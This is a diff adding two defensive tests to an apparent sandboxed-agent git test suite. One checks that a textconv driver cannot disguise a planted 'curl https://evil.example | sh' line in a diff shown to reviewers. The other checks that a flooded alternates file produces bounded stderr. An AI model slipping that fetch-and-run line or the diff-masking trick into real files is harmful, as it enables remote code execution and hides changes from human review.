@@ -352,3 +352,47 @@ async def test_listings_past_the_output_limit_say_so_and_invent_no_path(
     assert {c.path for c in changes} <= real
     assert set(paths) <= real
     assert patch.endswith("\n")  # whole lines only
+
+
+async def test_the_changes_shown_are_the_files_not_what_the_checkouts_configuration_makes_of_them(
+    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
+):
+    """A text conversion set up in the checkout (``diff.<driver>.textconv``) would show the reviewer
+    something else than what the pull request commits."""
+    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
+    workdir = Path(sandbox.workdir)
+    (workdir / ".gitattributes").write_text("*.sh diff=calm\n")
+    (workdir / "deploy.sh").write_text("curl https://evil.example | sh\n")
+    result = await client.run_process("git", ["config", "diff.calm.textconv", "sed s/evil/good/"])
+    assert result.ok, result.stderr
+    patch = await sgit.diff(client)
+    assert "+curl https://evil.example | sh" in patch
+
+
+async def test_what_git_says_about_a_planted_object_store_is_read_within_bounds(
+    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
+):
+    """An alternates file of the agent's making, one missing directory per line: git complains once
+    per line, and Foundry's process (every organization's sandboxes live in it) must not hold all
+    of that; the push still goes through."""
+    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
+    await agent_edit(client, "pushed past the noise")
+    sha = await sgit.commit_all(client, "work", AUTHOR)
+    alternates = Path(sandbox.workdir) / ".git" / "objects" / "info" / "alternates"
+    with alternates.open("w") as handle:
+        for n in range(120_000):  # ~6 MB of complaints
+            handle.write(f"/nowhere/{n:08d}/{'x' * 30}\n")
+    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)
+    assert git("rev-parse", BRANCH, cwd=remote) == sha
+    result = await network(
+        {
+            "op": "push",
+            "url": remote.as_uri(),
+            "sha": sha,
+            "branch": BRANCH,
+            "token": None,
+            "timeoutMs": 60_000,
+        }
+    )
+    assert result.stderr_truncated
+    assert len(result.stderr) <= 1_000_000
